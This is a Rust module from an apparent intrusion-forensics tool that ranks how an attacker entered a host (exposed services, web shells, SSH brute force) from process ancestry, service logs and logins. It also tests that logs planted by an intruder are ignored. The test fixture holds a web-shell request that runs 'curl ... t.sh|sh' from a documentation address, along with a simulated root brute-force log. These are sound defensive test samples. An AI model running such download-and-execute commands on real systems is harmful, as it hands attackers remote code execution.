//! How the attacker got in: the entry vector of the intrusion, ranked candidates with their evidence
//! (`findings.json`'s `entry` list; the graph marks the first one's nodes, the report and the summary lead
//! with it).
//!
//! The taxonomy ([`EntryVector`]): an exposed service (which one: Redis, the Docker API, Jupyter,
//! Confluence, WebLogic, a database, the kubelet, ...), a web application (a web shell), an SSH brute
//! force, an SSH key the findings judge the attacker's, lateral movement from another host of the same
//! network, a supply chain (a container image), or `unknown`. Persistence (a key added, a crontab
//! written) is never an entry; it points at one (its owner, what wrote it).
//!
//! Nothing here keeps a list, threshold or judgement of its own: the kit is what the findings judged
//! ([`kit`]), services come from the service table (`services.txt`), brute force is the model's fact
//! ([`crate::model::brute_force`], the one `MT-ACC-010` judges), logins and service-log lines are model
//! facts.
//! Evidence, strongest first:
//! - process ancestry ([`ancestry`]): a kit process descends from a service (observed), runs in a
//!   container an exposed API started or an image carried (observed), or runs as the account of a
//!   service while its parent is gone (reconstructed: suspected);
//! - the services' own logs ([`service_logs`]): a Redis replication and module load, requests that
//!   reached a web shell or deployed one, a database running a shell command (parsed);
//! - authentication events ([`logins`]): the brute force that ended in a login, a login with the
//!   attacker's key, a login from another host of the network (parsed);
//! - files a service wrote for the attacker (a Redis RDB dump as a crontab or key file: observed).
//!
//! Each is weighed against the intrusion window (the first kit artifact): what precedes it by minutes
//! supports an entry, what comes long before or after does not. Candidates for the same vector and
//! service merge (independent kinds of evidence raise the confidence). When no candidate reaches
//! [`CONCLUSIVE`], the list starts with `unknown`: an honest unknown beats a confident guess.

pub mod ancestry;
pub mod kit;
pub mod logins;
pub mod service_logs;

use std::collections::BTreeSet;

use minetrace_schemas::findings::{
    EntryCandidate, EntryVector, EvidenceLevel, Finding, Subject, Verdict,
};
use minetrace_schemas::manifest::format_unix_secs;

use crate::indicators::Indicators;
use crate::model::HostModel;

/// Confidence below which the best candidate is not a conclusion: `unknown` goes first.
pub const CONCLUSIVE: u8 = 50;
/// Candidates listed at most.
pub const MAX_CANDIDATES: usize = 8;
/// Evidence lines kept per candidate.
const MAX_EVIDENCE: usize = 12;
/// Confidence added per independent kind of evidence beyond the first.
const CORROBORATION: u8 = 10;
/// Highest confidence a candidate reaches (the bundle is the attacker's text too).
const MAX_CONFIDENCE: u8 = 95;

/// What a piece of evidence is, so that two of the same kind do not count as corroboration.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Basis {
    Ancestry,
    Container,
    Owner,
    ServiceLog,
    Login,
    WrittenByService,
}

/// A candidate while it is built.
#[derive(Debug, Clone)]
pub struct Candidate {
    pub vector: EntryVector,
    pub service: Option<String>,
    pub source: Option<String>,
    pub confidence: u8,
    pub level: EvidenceLevel,
    /// Seconds since the epoch.
    pub time: Option<i64>,
    pub summary: String,
    pub evidence: Vec<String>,
    pub rules: Vec<String>,
    pub subjects: Vec<Subject>,
    pub bases: BTreeSet<Basis>,
}

impl Candidate {
    pub fn new(
        vector: EntryVector,
        basis: Basis,
        level: EvidenceLevel,
        confidence: u8,
        summary: String,
    ) -> Candidate {
        Candidate {
            vector,
            service: None,
            source: None,
            confidence,
            level,
            time: None,
            summary,
            evidence: Vec::new(),
            rules: Vec::new(),
            subjects: Vec::new(),
            bases: BTreeSet::from([basis]),
        }
    }

    pub fn service(mut self, s: impl Into<String>) -> Candidate {
        self.service = Some(s.into());
        self
    }

    pub fn source(mut self, s: impl Into<String>) -> Candidate {
        self.source = Some(s.into());
        self
    }

    pub fn at(mut self, t: Option<i64>) -> Candidate {
        self.time = t;
        self
    }

    pub fn evidence(mut self, line: impl Into<String>) -> Candidate {
        let line = line.into();
        if !self.evidence.contains(&line) {
            self.evidence.push(line);
        }
        self
    }

    pub fn rule(mut self, id: &str) -> Candidate {
        if !self.rules.iter().any(|r| r == id) {
            self.rules.push(id.to_owned());
        }
        self
    }

    pub fn subject(mut self, s: Subject) -> Candidate {
        if !self.subjects.contains(&s) {
            self.subjects.push(s);
        }
        self
    }

    /// Merge key: the vector and the service, or the source for vectors without one.
    fn key(&self) -> (EntryVector, Option<String>) {
        (
            self.vector,
            self.service.clone().or_else(|| self.source.clone()),
        )
    }

    fn absorb(&mut self, other: Candidate) {
        let independent = other.bases.difference(&self.bases).count() > 0;
        // The summary of the strongest single piece of evidence.
        if (other.confidence, std::cmp::Reverse(other.level))
            > (self.confidence, std::cmp::Reverse(self.level))
        {
            self.summary = other.summary.clone();
        }
        let top = self.confidence.max(other.confidence);
        self.confidence = if independent {
            top.saturating_add(CORROBORATION).min(MAX_CONFIDENCE)
        } else {
            top
        };
        self.level = self.level.min(other.level);
        self.bases.extend(other.bases);
        self.source = self.source.take().or(other.source);
        self.time = match (self.time, other.time) {
            (Some(a), Some(b)) => Some(a.min(b)),
            (a, b) => a.or(b),
        };
        for e in other.evidence {
            if !self.evidence.contains(&e) {
                self.evidence.push(e);
            }
        }
        for r in other.rules {
            if !self.rules.contains(&r) {
                self.rules.push(r);
            }
        }
        for s in other.subjects {
            if !self.subjects.contains(&s) {
                self.subjects.push(s);
            }
        }
    }

    fn into_schema(mut self) -> EntryCandidate {
        self.evidence.truncate(MAX_EVIDENCE);
        EntryCandidate {
            vector: self.vector,
            service: self.service,
            source: self.source,
            confidence: self.confidence,
            level: self.level,
            time: self.time.map(format_unix_secs),
            summary: self.summary,
            evidence: self.evidence,
            rules: self.rules,
            subjects: self.subjects,
        }
    }
}

/// Everything the entry inference reads.
pub struct Inputs<'a> {
    pub model: &'a HostModel,
    pub iocs: &'a Indicators,
    pub findings: &'a [Finding],
}

/// The entry candidates of a host, best first; empty when the verdict is clean (no intrusion to trace).
pub fn infer(model: &HostModel, iocs: &Indicators, findings: &[Finding]) -> Vec<EntryCandidate> {
    if crate::detect::verdict(findings) == Verdict::Clean {
        return Vec::new();
    }
    let inp = Inputs {
        model,
        iocs,
        findings,
    };
    let kit = kit::Kit::of(&inp);
    let mut raw = Vec::new();
    raw.extend(ancestry::candidates(&inp, &kit));
    raw.extend(service_logs::candidates(&inp, &kit));
    raw.extend(logins::candidates(&inp, &kit));
    rank(raw, &kit, &inp)
}

/// Merges candidates of the same vector and service, orders them (confidence, then evidence level, then
/// the taxonomy's order) and puts `unknown` first when none is conclusive.
fn rank(raw: Vec<Candidate>, kit: &kit::Kit, inp: &Inputs) -> Vec<EntryCandidate> {
    let mut merged: Vec<Candidate> = Vec::new();
    for c in raw {
        match merged.iter_mut().find(|m| m.key() == c.key()) {
            Some(m) => m.absorb(c),
            None => merged.push(c),
        }
    }
    merged.sort_by(|a, b| {
        b.confidence
            .cmp(&a.confidence)
            .then(a.level.cmp(&b.level))
            .then(a.vector.cmp(&b.vector))
            .then(a.service.cmp(&b.service))
            .then(a.source.cmp(&b.source))
    });
    let conclusive = merged.first().is_some_and(|c| c.confidence >= CONCLUSIVE);
    let mut out: Vec<EntryCandidate> = Vec::new();
    if !conclusive {
        out.push(unknown(kit, inp, merged.len()).into_schema());
    }
    out.extend(merged.into_iter().map(Candidate::into_schema));
    out.truncate(MAX_CANDIDATES);
    out
}

/// The honest answer when nothing supports a conclusion, saying what was looked at.
fn unknown(kit: &kit::Kit, inp: &Inputs, weaker: usize) -> Candidate {
    let mut c = Candidate::new(
        EntryVector::Unknown,
        Basis::Ancestry,
        EvidenceLevel::Suspected,
        0,
        "unknown: nothing in the bundle shows how the attacker got in".into(),
    )
    .evidence(format!(
        "no process of the kit ({} flagged) descends from a service, runs in a container or as a service's account",
        kit.processes.len()
    ))
    .evidence(format!(
        "no login, service log line or service-written file precedes the kit ({} authentication events, {} service log lines read)",
        inp.model.auth.len(),
        inp.model.service_logs.len()
    ));
    if let Some((t, what)) = &kit.first {
        c = c.evidence(format!(
            "first kit artifact: {what} at {}",
            format_unix_secs(*t)
        ));
    }
    if weaker > 0 {
        c = c.evidence(format!(
            "{weaker} weaker candidate(s) follow; none is conclusive"
        ));
    }
    c
}

/// A finding's subjects (one place to read them).
pub fn subjects(f: &Finding) -> impl Iterator<Item = &Subject> {
    f.iter_subjects()
}

#[cfg(test)]
mod tests {
    use minetrace_schemas::findings::{EntryVector, Severity};

    use crate::detect::finding::{file_subject, finding, FindingExt};
    use crate::detect::rules;
    use crate::indicators::Indicators;
    use crate::model::fixture;

    /// Root's password guessed from 198.51.100.7 (25 failures, then a login) ten minutes before the kit
    /// file was written (the fixtures' mtime, 2023-11-14 22:13:20 UTC).
    fn auth_log() -> Vec<u8> {
        let mut log = Vec::new();
        for i in 0..25 {
            log.extend_from_slice(
                format!("Nov 14 22:0{}:{:02} web-01 sshd[{}]: Failed password for root from 198.51.100.7 port {} ssh2\n", i / 10, i, 900 + i, 40000 + i)
                    .as_bytes(),
            );
        }
        log.extend_from_slice(b"Nov 14 22:03:10 web-01 sshd[990]: Accepted password for root from 198.51.100.7 port 41000 ssh2\n");
        log
    }

    /// A request that runs a download piped into a shell, from another address, a minute before the kit
    /// (after an ordinary one):
    /// the story a log written by the intruder would tell.
    const CRAFTED: &[u8] = b"10.0.0.20 - - [14/Nov/2023:21:58:02 +0000] \"GET /index.jsp HTTP/1.1\" 200 143\n\
203.0.113.88 - - [14/Nov/2023:22:12:20 +0000] \"GET /mgmt/cmd.jsp?c=curl%20-fsSL%20http%3A%2F%2F203.0.113.88%2Ft.sh%7Csh HTTP/1.1\" 200 38\n";

    fn entry(log_path: &[u8]) -> Vec<minetrace_schemas::findings::EntryCandidate> {
        let kit = fixture::file(b"/tmp/.k/xmr", Some(b"\x7fELF stand-in"));
        let miner = finding(&rules::RUN_010, Severity::High).subject(file_subject(&kit.0));
        let files = vec![
            fixture::file(b"/var/log/auth.log", Some(&auth_log())),
            fixture::file(log_path, Some(CRAFTED)),
            kit,
        ];
        // The intruder's process names /tmp/x as its Tomcat base, so /tmp/x/logs/ looks like Tomcat's.
        let decoy = fixture::process(
            4242,
            1,
            0,
            b"/tmp/.k/xmr",
            &[
                &b"/tmp/.k/xmr"[..],
                &b"-Dcatalina.base=/tmp/x"[..],
                &b"org.apache.catalina.startup.Bootstrap"[..],
            ],
        );
        let model = fixture::model_with_processes(files, vec![], vec![decoy]);
        super::infer(&model, &Indicators::builtin(), &[miner])
    }

    #[test]
    fn a_log_an_intruders_command_line_points_at_does_not_shape_the_entry() {
        let crafted = entry(b"/tmp/x/logs/localhost_access_log.2023-11-14.txt");
        let first = crafted.first().expect("a candidate");
        assert_eq!(first.vector, EntryVector::SshBruteForce, "{crafted:#?}");
        assert!(
            crafted
                .iter()
                .all(|c| c.vector != EntryVector::WebApplication
                    && c.evidence.iter().all(|e| !e.contains("/tmp/x/"))),
            "{crafted:#?}"
        );
        // The same lines in a log of the host's own Tomcat are read and weighed: what the test above
        // shows is the directory refused, not a request the inference ignores.
        let real = entry(b"/var/log/tomcat9/localhost_access_log.2023-11-14.txt");
        assert!(
            real.iter().any(|c| c.vector == EntryVector::WebApplication),
            "{real:#?}"
        );
    }
}
